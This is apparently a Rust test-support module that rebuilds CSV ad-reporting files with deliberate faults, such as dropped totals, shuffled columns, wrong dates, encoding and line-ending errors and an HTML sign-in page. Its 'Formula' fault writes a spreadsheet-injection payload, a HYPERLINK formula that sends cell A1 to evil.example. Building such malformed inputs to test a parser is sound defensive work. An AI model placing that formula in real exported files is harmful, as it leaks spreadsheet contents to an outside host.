//! A finished file taken apart and put together again with something about it changed: the shapes
//! real files come in, and the ways they are wrong. See `FileFault`.
//!
//! Cells stay as they were written, quotes and all, so that nothing changes but what should.

mod figures;

#[cfg(test)]
mod tests;

use crate::faults::FileFault;
use figures::{add, group_thousands, is_figure};

const NO_DATA: &str = "No data returned by the reporting service.";
const SIGN_IN: &str = "<!DOCTYPE html><html><head><title>Sign in</title></head><body>Sign in to continue</body></html>\n";

#[derive(Debug)]
struct Sheet {
    /// How many of the columns are dimensions.
    dimensions: usize,
    header: Vec<String>,
    rows: Vec<Vec<String>>,
    totals: Option<Vec<String>>,
    footer: Option<String>,
}

/// The bytes of the file with all of the faults in it.
pub(crate) fn distort(file: String, dimensions: usize, faults: &[FileFault]) -> Vec<u8> {
    if faults.is_empty() {
        return file.into_bytes();
    }
    let mut sheet = Sheet::take_apart(&file, dimensions);
    for fault in faults {
        sheet.apply(fault);
    }
    let mut bytes = sheet.write().into_bytes();
    for fault in faults {
        bytes = encode(bytes, fault);
    }
    bytes
}

impl Sheet {
    fn take_apart(file: &str, dimensions: usize) -> Sheet {
        let mut records = records(file);
        let footer_at = records.iter().position(|(cells, _)| cells == &[""]);
        let (end, footer) = match footer_at {
            Some(at) => (at, Some(file[records[at].1..].to_owned())),
            None => (records.len(), None),
        };
        records.truncate(end);
        let owned = |cells: Vec<&str>| cells.into_iter().map(str::to_owned).collect::<Vec<_>>();
        let mut rows: Vec<Vec<String>> =
            records.into_iter().map(|(cells, _)| owned(cells)).collect();
        let header = if rows.is_empty() {
            Vec::new()
        } else {
            rows.remove(0)
        };
        if rows.first().is_some_and(|row| row.len() == 1) && header.len() > 1 {
            rows.clear();
        }
        let sums = |row: &Vec<String>| row.iter().take(dimensions).all(String::is_empty);
        let totals = rows.pop_if(|row| sums(row));
        Sheet {
            dimensions,
            header,
            rows,
            totals,
            footer,
        }
    }

    fn apply(&mut self, fault: &FileFault) {
        match fault {
            FileFault::NoTotals => self.totals = None,
            FileFault::NoFooter => self.footer = None,
            FileFault::IsoDates => self.each(0, |cell| *cell = cell.replace('/', "-")),
            FileFault::ShuffledColumns => self.shuffle(),
            FileFault::Thousands => self.each_figure(group_thousands),
            FileFault::Dashes => self.each_figure(|cell| {
                if is_zero(cell) {
                    "-".clone_into(cell);
                }
            }),
            FileFault::Unknown => self.forget_names(),
            FileFault::ExtraColumn { header } => self.extend(std::slice::from_ref(header)),
            FileFault::ManyColumns { count } => {
                let headers: Vec<String> = (0..*count).map(|at| format!("Column {at}")).collect();
                self.extend(&headers);
            }
            FileFault::RenamedHeader { from, to } => {
                if let Some(at) = self.find(from) {
                    to.clone_into(&mut self.header[at]);
                }
            }
            FileFault::MissingColumn { header } => self.remove(header),
            FileFault::RetypedColumn { header } => {
                self.each_of(header, |cell| "plenty".clone_into(cell));
            }
            FileFault::Censored { header } => {
                self.each_of(header, censor);
                self.total_of(header, String::clear);
            }
            FileFault::ZeroColumn { header } => {
                self.each_of(header, zero);
                self.total_of(header, zero);
            }
            FileFault::BlankFirstDimension => {
                if let Some(cell) = self.rows.first_mut().and_then(|row| row.first_mut()) {
                    cell.clear();
                }
            }
            FileFault::WrongTotals => self.miscount(),
            FileFault::WrongDates => self.shift_dates(),
            FileFault::WrongGroups => self.drop_group(),
            FileFault::DuplicateRows { counted } => self.repeat_row(*counted),
            FileFault::MissingDays { days } => self.drop_days(*days),
            FileFault::MissingAdvertiser => self.drop_advertiser(),
            FileFault::ForeignRows => self.add_foreign(),
            FileFault::Empty => {
                self.rows.clear();
                self.totals = None;
            }
            FileFault::Nul => self.name(|cell| cell.insert(0, '\0')),
            FileFault::Formula => self.name(|cell| {
                "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"".clone_into(cell);
            }),
            FileFault::LongLine { bytes } => self.name(|cell| *cell = "x".repeat(*bytes)),
            FileFault::Bom | FileFault::Crlf | FileFault::Latin1 | FileFault::Html => {}
        }
    }

    fn find(&self, header: &str) -> Option<usize> {
        self.header.iter().position(|one| one == header)
    }

    fn each(&mut self, column: usize, mut change: impl FnMut(&mut String)) {
        for cell in self.rows.iter_mut().filter_map(|row| row.get_mut(column)) {
            change(cell);
        }
    }

    fn each_of(&mut self, header: &str, change: impl FnMut(&mut String)) {
        if let Some(column) = self.find(header) {
            self.each(column, change);
        }
    }

    fn total_of(&mut self, header: &str, change: impl FnOnce(&mut String)) {
        let column = self.find(header);
        let cell = self.totals.as_mut().zip(column);
        if let Some(cell) = cell.and_then(|(totals, column)| totals.get_mut(column)) {
            change(cell);
        }
    }

    fn each_figure(&mut self, mut change: impl FnMut(&mut String)) {
        let dimensions = self.dimensions;
        for row in self.rows.iter_mut().chain(&mut self.totals) {
            for cell in row.iter_mut().skip(dimensions) {
                change(cell);
            }
        }
    }

    /// One place on, dimensions and metrics each among themselves.
    fn shuffle(&mut self) {
        let dimensions = self.dimensions;
        let rows = self.rows.iter_mut().chain(&mut self.totals);
        for row in rows.chain([&mut self.header]) {
            if row.len() > dimensions {
                row[..dimensions].rotate_left(usize::from(dimensions > 1));
                row[dimensions..].rotate_right(1);
            }
        }
    }

    /// Names are the dimensions that hold letters and are no codes.
    fn forget_names(&mut self) {
        let named: Vec<usize> = self.names().collect();
        for row in self.rows.iter_mut().step_by(5) {
            for column in &named {
                "Unknown".clone_into(&mut row[*column]);
            }
        }
    }

    fn names(&self) -> impl Iterator<Item = usize> + '_ {
        let names = [
            "Partner",
            "Advertiser",
            "Campaign",
            "Insertion Order",
            "Line Item",
        ];
        let headers = self.header.iter().enumerate().take(self.dimensions);
        headers
            .filter(move |(_, header)| names.contains(&header.as_str()))
            .map(|(at, _)| at)
    }

    /// Changes the first name of the first row; without one, its first dimension.
    fn name(&mut self, change: impl FnOnce(&mut String)) {
        let column = self.names().next().unwrap_or(0);
        if let Some(cell) = self.rows.first_mut().and_then(|row| row.get_mut(column)) {
            change(cell);
        }
    }

    fn extend(&mut self, headers: &[String]) {
        self.header.extend_from_slice(headers);
        for row in self.rows.iter_mut().chain(&mut self.totals) {
            row.extend(headers.iter().map(|_| "0".to_owned()));
        }
    }

    fn remove(&mut self, header: &str) {
        let Some(at) = self.find(header) else { return };
        let rows = self.rows.iter_mut().chain(&mut self.totals);
        for row in rows.chain([&mut self.header]) {
            row.remove(at);
        }
        self.dimensions -= usize::from(at < self.dimensions);
    }

    fn miscount(&mut self) {
        let dimensions = self.dimensions;
        let cell = self
            .totals
            .as_mut()
            .and_then(|totals| totals.get_mut(dimensions));
        if let Some(cell) = cell.filter(|cell| is_figure(cell)) {
            *cell = add(cell, "1", 1);
        }
    }

    fn shift_dates(&mut self) {
        let Some(footer) = &mut self.footer else {
            return;
        };
        let lines = footer.split_inclusive('\n').map(|line| {
            if line.starts_with("Date Range:,") {
                "Date Range:,2001/01/01 to 2001/01/07\n"
            } else {
                line
            }
        });
        *footer = lines.collect();
    }

    fn drop_group(&mut self) {
        let Some(footer) = &mut self.footer else {
            return;
        };
        if let Some(at) = footer.find("Group By:,") {
            let end = footer[at..]
                .find('\n')
                .map_or(footer.len(), |length| at + length + 1);
            footer.replace_range(at..end, "");
        }
    }

    fn repeat_row(&mut self, counted: bool) {
        let Some(row) = self.rows.first().cloned() else {
            return;
        };
        if counted {
            self.count(&row, 1);
        }
        self.rows.push(row);
    }

    /// Puts a row into the totals or takes it out of them.
    fn count(&mut self, row: &[String], sign: i128) {
        let dimensions = self.dimensions;
        let Some(totals) = &mut self.totals else {
            return;
        };
        for (total, cell) in totals.iter_mut().zip(row).skip(dimensions) {
            if is_figure(total) && is_figure(cell) {
                *total = add(total, cell, sign);
            }
        }
    }

    fn drop_days(&mut self, days: u32) {
        let Some(column) = self.find("Date") else {
            return;
        };
        let mut dates: Vec<String> = self.rows.iter().map(|row| row[column].clone()).collect();
        dates.sort_unstable();
        dates.dedup();
        let kept = dates.len().saturating_sub(days as usize);
        let gone = dates.split_off(kept);
        self.drop_rows(|row| gone.contains(&row[column]));
    }

    fn drop_advertiser(&mut self) {
        let Some(column) = self.find("Advertiser ID") else {
            return;
        };
        let Some(first) = self.rows.first().map(|row| row[column].clone()) else {
            return;
        };
        self.drop_rows(|row| row[column] == first);
    }

    /// The totals know nothing of them.
    fn drop_rows(&mut self, gone: impl Fn(&[String]) -> bool) {
        let rows = std::mem::take(&mut self.rows);
        let (out, kept) = rows.into_iter().partition(|row| gone(row));
        self.rows = kept;
        let out: Vec<Vec<String>> = out;
        for row in &out {
            self.count(row, -1);
        }
        if self.rows.is_empty() {
            self.totals = None;
        }
    }

    fn add_foreign(&mut self) {
        let Some(column) = self.find("Advertiser ID") else {
            return;
        };
        let Some(mut row) = self.rows.first().cloned() else {
            return;
        };
        "999999999".clone_into(&mut row[column]);
        self.count(&row, 1);
        self.rows.push(row);
    }

    fn write(&self) -> String {
        let mut out = String::new();
        let rows = self.rows.iter().chain(&self.totals);
        for row in std::iter::once(&self.header).chain(rows) {
            out.push_str(&row.join(","));
            out.push('\n');
        }
        if self.rows.is_empty() {
            out.push_str(NO_DATA);
            out.push('\n');
        }
        if let Some(footer) = &self.footer {
            out.push_str(footer);
        }
        out
    }
}

fn is_zero(cell: &str) -> bool {
    is_figure(cell) && cell.chars().all(|one| matches!(one, '0' | '.' | '%'))
}

fn zero(cell: &mut String) {
    let digits = |one: char| if one.is_ascii_digit() { '0' } else { one };
    let fraction = cell
        .find('.')
        .map(|at| cell[at..].chars().map(digits).collect::<String>());
    *cell = format!("0{}", fraction.unwrap_or_default());
}

fn censor(cell: &mut String) {
    let small = cell.parse::<f64>().is_ok_and(|value| value < 1_000.0);
    if small {
        "< 1000".clone_into(cell);
    }
}

/// Changes that are about bytes rather than cells.
fn encode(mut bytes: Vec<u8>, fault: &FileFault) -> Vec<u8> {
    match fault {
        FileFault::Html => SIGN_IN.as_bytes().to_vec(),
        FileFault::Bom => [b"\xef\xbb\xbf".as_slice(), &bytes].concat(),
        FileFault::Crlf => {
            let mut out = Vec::with_capacity(bytes.len() + bytes.len() / 50);
            for byte in bytes {
                if byte == b'\n' {
                    out.push(b'\r');
                }
                out.push(byte);
            }
            out
        }
        FileFault::Latin1 => {
            let at = bytes
                .iter()
                .position(|byte| *byte == b'\n')
                .map_or(0, |at| at + 1);
            bytes.insert(at.min(bytes.len()), 0xe9);
            bytes
        }
        _ => bytes,
    }
}

/// The records of the file as written: their cells, and where each begins.
fn records(file: &str) -> Vec<(Vec<&str>, usize)> {
    let mut records = Vec::new();
    let (mut cells, mut begins, mut cell, mut quoted) = (Vec::new(), 0, 0, false);
    for (at, byte) in file.bytes().enumerate() {
        match byte {
            b'"' => quoted = !quoted,
            b',' if !quoted => {
                cells.push(&file[cell..at]);
                cell = at + 1;
            }
            b'\n' if !quoted => {
                cells.push(&file[cell..at]);
                records.push((std::mem::take(&mut cells), begins));
                (begins, cell) = (at + 1, at + 1);
            }
            _ => {}
        }
    }
    records
}
